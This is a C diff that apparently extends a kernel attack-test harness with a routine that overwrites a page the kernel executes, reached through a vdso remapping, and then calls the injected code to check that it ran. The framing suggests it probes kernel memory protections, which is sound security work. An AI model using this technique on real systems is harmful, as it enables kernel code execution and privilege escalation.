@@ -12,6 +12,7 @@
 #include <sys/mman.h>
 #include <unistd.h>
 
+#include "answer.h"
 #include "attack.h"
 #include "filter.h"
 #include "list.h"
@@ -122,6 +123,28 @@ enum outcome vdso_text(void)
 	outcome = patch_text_in_user_mapping(in_page(vdso));
 	vdso_put_back();
 	return outcome;
+}
+
+/* It has been run since the kernel started, and was written until then. */
+enum outcome thunk_code(void)
+{
+	uint64_t thunk = ksymbol("attack_thunk"), value;
+	volatile char *vdso;
+	struct slot slot;
+	int err;
+
+	thunk = thunk ? kread64(thunk) : 0;
+	if (!thunk || kwalk(thunk, LEVEL_PTE, 0, &slot) || !pte_is_executable(slot.value))
+		return broken("no page that the kernel runs");
+	vdso = vdso_replace(slot.page, &err);
+	if (!vdso)
+		return broken("no mapping of the vdso found");
+	memcpy((void *)vdso, answer_code, ANSWER_SIZE);
+	vdso_put_back();
+	err = call_answer(thunk, &value);
+	if (!is_answer(err, value))
+		return lost("call gave %d, value 0x%lx", err, value);
+	return won("code written to a page that the kernel runs answered 0x%lx", value);
 }
 
 enum outcome zero_page_text(void)
